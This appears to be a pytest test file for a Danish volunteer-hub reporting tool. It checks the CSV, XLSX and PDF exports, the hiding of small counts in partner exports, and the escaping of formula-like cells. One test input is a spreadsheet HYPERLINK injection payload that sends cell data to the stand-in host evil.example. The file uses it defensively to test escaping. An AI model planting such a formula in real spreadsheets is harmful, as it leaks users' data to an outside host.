"""CSV, XLSX and PDF carry the JSON's figures (read back), hide small ones for partners, defuse formulas."""

from __future__ import annotations

import csv
import io
import re
import subprocess

import openpyxl
import pytest

from tests.reports.dataset import GLOSTRUP, RK
from volunteer_hub.reports import exports
from volunteer_hub.reports.data import OrganisationRef
from volunteer_hub.reports.figures import figure_label, flatten
from volunteer_hub.reports.presentation import format_value
from volunteer_hub.reports.quarterly import compute_quarterly

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def _csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "Danish Excel needs the UTF-8 BOM"
    text = body.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _csv_number(text: str) -> float | int | None:
    if text == "":
        return None
    return float(text.replace(",", ".")) if "," in text else int(text)


def test_csv_has_every_json_figure_in_danish_excel_style(ctx):
    report = compute_quarterly(GLOSTRUP, 2026, 3)
    rows = _csv_rows(exports.to_csv(report))
    assert rows[0] == ["Afsnit", "Tal", "Nøgle", "Værdi"]
    values = {key: value for _section, _figure, key, value in rows[1:]}
    assert len(values) == len(rows) - 1, "each figure exactly once"
    expected = flatten(report)
    assert list(values) == [row.key for row in expected]
    for row in expected:
        cell = values[row.key]
        if isinstance(row.value, str):
            assert cell == row.value
        else:
            assert _csv_number(cell) == row.value, row.key
    assert values["median_days_to_first_match"] == "11,0"  # decimal comma
    assert values["retention.meeting_hours"] == "3,75"
    assert (
        values["change_from_previous_quarter.figures.reached.households.change"] == "-1"
    )  # a number, not escaped
    assert values["organisation"] == ""  # the municipality's own report


def test_xlsx_has_every_json_figure_as_numbers(ctx):
    report = compute_quarterly(GLOSTRUP, 2026, 3)
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(report))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Afsnit", "Tal", "Nøgle", "Værdi")
    values = {key: value for _section, _figure, key, value in rows[1:]}
    assert values == {row.key: row.value for row in flatten(report)}
    households_change = next(
        row[3]
        for row in sheet.iter_rows()
        if row[2].value == "change_from_previous_quarter.figures.reached.households.change"
    )
    assert households_change.data_type == "n" and households_change.value == -1


def _pdf_text(body: bytes) -> str:
    assert body.startswith(b"%PDF")
    result = subprocess.run(["pdftotext", "-layout", "-", "-"], input=body, capture_output=True, check=True)
    return result.stdout.decode("utf-8")


def _has_line(text: str, label: str, value: str) -> bool:
    pattern = re.compile(rf"^\s*{re.escape(label)}\s{{2,}}{re.escape(value)}\s*$", re.MULTILINE)
    return bool(pattern.search(text))


def _shown(value, key: str) -> str:
    return format_value(value, key=key).replace("\xa0", " ")  # pdftotext writes a no-break space as " "


def test_pdf_is_a4_and_has_every_json_figure(ctx):
    report = compute_quarterly(GLOSTRUP, 2026, 3)
    body = exports.to_pdf(report, municipality_name="Glostrup Kommune")
    info = subprocess.run(["pdfinfo", "-"], input=body, capture_output=True, check=True).stdout.decode()
    assert "(A4)" in info
    text = _pdf_text(body)
    missing = [
        (row.key, row.value)
        for row in flatten(report)
        if row.value is not None and not _has_line(text, figure_label(row.key), _shown(row.value, row.key))
    ]
    assert missing == []
    assert _has_line(text, "Median antal dage fra registrering til første match", "11")
    assert _has_line(text, "Timer med møder", "3,75")
    # the charts' data table of matches per scheme: started, ended, active at the end
    assert re.search(r"^\s*Følg en familie\s+2\s+2\s+1\s*$", text, re.MULTILINE)
    assert re.search(r"^\s*Tigrinya\s+3\s+1\s*$", text, re.MULTILINE)  # language gap table


def test_partner_exports_show_small_figures_as_less_than_five(ctx):
    report = compute_quarterly(GLOSTRUP, 2026, 3, organisation=RK)
    assert report["volunteers"]["registered"] == 2  # JSON keeps the exact figure
    csv_values = {row[2]: row[3] for row in _csv_rows(exports.to_csv(report))[1:]}
    xlsx_values = {
        row[2]: row[3]
        for row in openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(report))).active.iter_rows(
            values_only=True
        )
    }
    for values in (csv_values, xlsx_values):
        assert values["volunteers.registered"] == "<5"  # 2
        assert values["reached.households"] == "<5"  # 4
        assert values["language_gap.ti.households_waiting"] == "<5"  # 3
        assert values["median_days_to_first_match"] == "<5"  # a median over 2 households
        assert values["change_from_previous_quarter.figures.volunteers.registered.change"] == "<5"  # 0 -> 2
        assert values["change_from_previous_quarter.figures.volunteers.registered.previous"] in ("0", 0)
        assert values["reached.persons"] in ("10", 10)  # 5 or more: shown
        assert values["reached.children"] in ("5", 5)
        assert values["language_gap.fa.volunteers_available"] in ("0", 0)  # zero identifies nobody
        assert values["period.quarter"] in ("3", 3)  # not a count
        assert values["child_certificates.validity_months"] in ("24", 24)
        assert "<5" in values["note.suppression"]
    # every count from 1 to 4 is hidden, none is left exact (a change is a difference, not a count)
    not_counts = ("period.", "change_from_previous_quarter.previous_period.")
    for row in flatten(report):
        small = isinstance(row.value, int) and 0 < row.value < 5
        if small and not row.key.startswith(not_counts) and not row.key.endswith(".change"):
            assert csv_values[row.key] == "<5", row.key
    assert csv_values["change_from_previous_quarter.figures.reached.persons.change"] == "2"  # 8 -> 10
    text = _pdf_text(exports.to_pdf(report, municipality_name="Glostrup Kommune"))
    assert _has_line(text, "Frivillige registreret", "<5")
    assert _has_line(text, "Personer nået", "10")
    assert "Røde Kors Glostrup" in text


def test_municipal_exports_are_exact(ctx):
    report = compute_quarterly(GLOSTRUP, 2026, 3)
    values = {row[2]: row[3] for row in _csv_rows(exports.to_csv(report))[1:]}
    assert values["volunteers.registered"] == "3"
    assert "note.suppression" not in values


@pytest.mark.parametrize("name", [EVIL, "+45 12345678", "-1 Venner", "@Glostrup"])
def test_cells_that_look_like_formulas_are_escaped(ctx, name):
    report = compute_quarterly(GLOSTRUP, 2026, 3, organisation=OrganisationRef(RK.id, name))
    assert report["organisation"] == name  # JSON keeps the name as it is
    csv_values = {row[2]: row[3] for row in _csv_rows(exports.to_csv(report))[1:]}
    assert csv_values["organisation"] == "'" + name
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(report))).active
    cell = next(row[3] for row in sheet.iter_rows() if row[2].value == "organisation")
    assert cell.data_type == "s" and cell.value == "'" + name
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_escape_formula_leaves_ordinary_text_alone():
    assert exports.escape_formula("Røde Kors") == "Røde Kors"
    assert exports.escape_formula("2026-07-01") == "2026-07-01"
    assert exports.escape_formula("=1+1") == "'=1+1"
    assert exports.escape_formula("\t=1") == "'\t=1"
